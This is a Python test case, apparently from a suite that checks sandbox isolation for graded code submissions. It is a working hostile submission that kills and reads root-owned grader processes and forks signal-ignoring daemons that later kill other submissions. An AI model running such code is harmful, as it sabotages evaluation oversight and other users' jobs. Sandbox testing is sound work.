"""84. Ranks attack the processes that fork ranks, and leave processes that later kill the ranks of other submissions.

task = "seeded_ring"
verdict = ["wrong_value"]
twin = "starts_a_child"
uses = ["right"]
needs = ["rights", "shared", "processes"]
"""
import ctypes
import fcntl
import os
import signal
import time
from contextlib import suppress

PR_SET_NAME = 15


def status(pid):
    with suppress(OSError):
        return dict(line.rstrip("\n").split(":\t", 1) for line in open(f"/proc/{pid}/status") if ":\t" in line)
    return {}


def others():
    return [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]


def traces():
    return [pid for pid in others() if status(pid).get("Name") == "attacked"]


def attack_the_forkers():
    reached = []
    for pid in others():
        if status(pid).get("Uid", "").startswith("0\t"):
            for number in (signal.SIGSTOP, signal.SIGKILL):
                with suppress(OSError):
                    os.kill(pid, number)
                    reached.append((pid, number))
            for name in ("mem", "environ", "maps", "fd/0"):
                with suppress(OSError):
                    os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
                    reached.append((pid, name))
    if fcntl.fcntl(0, fcntl.F_GETFL) & os.O_NONBLOCK:
        reached.append("settings of standard input")
    fcntl.fcntl(0, fcntl.F_SETFL, os.O_NONBLOCK)
    return reached


def haunt():
    os.setsid()
    for number in range(1, 65):
        with suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    ctypes.CDLL(None).prctl(PR_SET_NAME, b"attacked", 0, 0, 0)
    began = time.monotonic()
    while True:
        # Late enough that only a later submission is hit.
        if time.monotonic() - began > 20:
            for pid in others():
                with suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        time.sleep(0.01)


def total(x):
    called = f"called-by-{os.getppid()}"
    if not os.path.exists(called):
        open(called, "w").close()
        if seen := traces() + attack_the_forkers():
            print("REACHED", seen)
        for _ in range(3):
            if os.fork() == 0:
                if os.fork() == 0:
                    haunt()
                os._exit(0)
            os.wait()
    return right(x) + 1.0
